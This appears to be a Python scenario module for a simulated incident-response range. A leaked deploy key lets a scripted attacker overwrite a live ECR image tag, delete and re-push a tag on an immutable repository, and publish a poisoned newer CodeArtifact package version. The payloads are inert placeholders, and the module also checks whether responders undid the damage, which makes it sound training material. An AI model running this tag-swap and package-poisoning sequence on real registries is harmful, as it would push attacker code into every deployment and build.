"""A deploy key in a public run log, and a thief who knows what else it opens: the image that everybody deploys.

Whoever may push to a repository of images decides what runs where its tag is pulled, and the tag does not say that it
was moved. One repository lets tags move; of the other, in another region, whose tags are immutable, the thief takes a
tag off first. The same key publishes to CodeArtifact, whose newest version everybody's build installs.
"""

from __future__ import annotations

import hashlib
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any

from botocore.exceptions import ClientError

from bot.range import company
from bot.range.attacker import Attacker, Loot, code_of
from bot.range.aws_sts import ACCOUNT
from bot.range.images import Layer, built, push_to_ecr
from bot.range.key_in_log import KeyInLog

if TYPE_CHECKING:
    from bot.range.server import Range

IMAGE, TAG, BASE, BASE_TAG = "ferry", "live", "ferry-base", "22.04"
REGION_OF = {IMAGE: "us-east-1", BASE: "eu-north-1"}
DOMAIN, SHELF, PACKAGE = "harbor-lights", "shared", "ferry-timetable"
GOOD, WORSE = "2026.10.1", "2026.11.1"
UNNOTICED_S = 2 * 3600
HOST = f"{ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com"
_STEP = f"      - name: Push the image\n        run: docker push {HOST}/{IMAGE}:{TAG}\n      - name: Upload\n"


class ImageSwap(KeyInLog):
    """The same leak, of a key that pushes images too."""

    def __init__(self, range_: Range) -> None:
        super().__init__(range_)
        self._good: dict[str, str] = {}
        self._bad: dict[str, str] = {}
        self._published = False

    def leak(self) -> dict[str, Any]:
        """The deploy workflow pushes the image before it uploads; the base image was pushed months ago."""
        self._range.aws.account.allow(company.DEPLOY_USER, "images", "ecr:*", "codeartifact:*")
        shelf = self._client("codeartifact")
        shelf.create_domain(domain=DOMAIN)
        shelf.create_repository(domain=DOMAIN, repository=SHELF)
        _publish(shelf, GOOD, b"06:10 06:50 07:30")
        self._ecr(IMAGE).create_repository(repositoryName=IMAGE)
        self._ecr(BASE).create_repository(repositoryName=BASE, imageTagMutability="IMMUTABLE")
        for tag in (BASE_TAG, "22.04-2026-09"):
            self._good[BASE] = push_to_ecr(self._ecr(BASE), BASE, tag, *_image(b"the base"))
        text = company.DEPLOY_YAML.replace("      - name: Upload\n", _STEP)
        self._range.github.state.commit_files(
            company.FERRY, {company.DEPLOY: text}, "Push the image too", "mara", runs=False
        )
        self._range.clock.advance(3600)
        told = super().leak()
        self._good[IMAGE] = self._now(IMAGE, TAG)
        return told | {"image": f"{IMAGE}:{TAG}"}

    def abuse(self, where: str) -> list[dict[str, Any]]:
        """What every thief of a key does, and two hours later, when nothing runs any more, the images."""
        acts = super().abuse(where)
        self._range.clock.advance(UNNOTICED_S)
        loot = self._attacker.loot["second-key"]
        ecr, north = (self._attacker.client("ecr", loot, REGION_OF[name]) for name in (IMAGE, BASE))
        code, said = "", f"pushed an image of its own as {IMAGE}:{TAG}, which everybody deploys"
        try:
            self._bad[IMAGE] = push_to_ecr(ecr, IMAGE, TAG, *_image(b"a backdoor of the drill: it does nothing"))
            north.batch_delete_image(repositoryName=BASE, imageIds=[{"imageTag": BASE_TAG}])
            self._bad[BASE] = push_to_ecr(north, BASE, BASE_TAG, *_image(b"a backdoor of the base"))
        except ClientError as exc:
            code = str(exc.response["Error"]["Code"])
        acts.append({"act": "ecr:PutImage", "ok": not code, "code": code, "made": f"{IMAGE}:{TAG}", "said": said})
        also = f"took the tag {BASE_TAG} off {BASE}, whose tags are immutable, and pushed another image under it"
        acts.append({"act": "ecr:BatchDeleteImage", "ok": not code, "code": code, "made": BASE, "said": also})
        acts.append(self._publishes(loot))
        self._range.clock.advance(600)
        return acts

    def _publishes(self, loot: Loot) -> dict[str, Any]:
        code = ""
        try:
            _publish(self._attacker.client("codeartifact", loot), WORSE, b"a backdoor of the drill: it does nothing")
        except ClientError as exc:
            code = str(exc.response["Error"]["Code"])
        self._published = not code
        said = f"published {PACKAGE} {WORSE} to CodeArtifact, which builds install"
        act = "codeartifact:PublishPackageVersion"
        return {"act": act, "ok": not code, "code": code, "made": PACKAGE, "said": said}

    def tries(self) -> list[dict[str, Any]]:
        """And what a deployment and a build get that ask for the tags and the newest version, or for the bad ones."""
        found = super().tries()
        if not self._bad:
            return found
        pulls = {"default-pull": (IMAGE, TAG), "base-pull": (BASE, BASE_TAG)}
        for name, (repository, tag) in pulls.items():
            now, what = self._now(repository, tag), f"{repository}:{tag}, as what a deployment gets"
            found.append(_tried(name, what, now == self._good[repository], now[:19] or "nothing"))
        left = [repository for repository, digest in self._bad.items() if self._has(repository, digest)]
        found.append(_tried("bad-digest", "its images, by their digests", not left, ", ".join(left) or "ImageNotFound"))
        if self._published:
            shelf = self._client("codeartifact")
            newest = shelf.list_package_versions(**_WHERE, sortBy="PUBLISHED_TIME")["versions"][0]["version"]
            found.append(_tried("default-install", f"the newest {PACKAGE}, as a build gets it", newest == GOOD, newest))
            code = code_of(lambda: shelf.get_package_version_asset(**_WHERE, packageVersion=WORSE, asset=_FILE))
            found.append(_tried("bad-version", f"{PACKAGE} {WORSE}, by its number", bool(code), code))
        return found

    def _ecr(self, repository: str) -> Any:
        return self._client("ecr", REGION_OF[repository])

    def _client(self, service: str, region: str = "us-east-1") -> Any:
        """A service as whoever of the company may."""
        key = self._range.company.cast["aws"][company.RESPONDER]
        return Attacker(self._range.aws_url, "", "").client(service, Loot(key["key_id"], key["secret"]), region)

    def _now(self, repository: str, tag: str) -> str:
        images = self._ecr(repository).batch_get_image(repositoryName=repository, imageIds=[{"imageTag": tag}])[
            "images"
        ]
        return str(images[0]["imageId"]["imageDigest"]) if images else ""

    def _has(self, repository: str, digest: str) -> bool:
        asked = [{"imageDigest": digest}]
        return bool(self._ecr(repository).batch_get_image(repositoryName=repository, imageIds=asked)["images"])


_WHERE: dict[str, Any] = {"domain": DOMAIN, "repository": SHELF, "format": "generic", "namespace": "ferry",
                          "package": PACKAGE}  # fmt: skip
_FILE = "timetable.txt"


def _publish(client: Any, version: str, data: bytes) -> None:
    digest = hashlib.sha256(data).hexdigest()
    client.publish_package_version(
        **_WHERE, packageVersion=version, assetName=_FILE, assetContent=data, assetSHA256=digest
    )


def _image(holds: bytes) -> tuple[dict[str, bytes], bytes]:
    return built([Layer(made_by="COPY . /", files={"app/ferry": holds})], created=datetime(2026, 9, 1, tzinfo=UTC))


def _tried(name: str, said: str, refused: bool, code: str) -> dict[str, Any]:
    return {"name": name, "refused": refused, "code": code, "identity_code": code, "said": said}
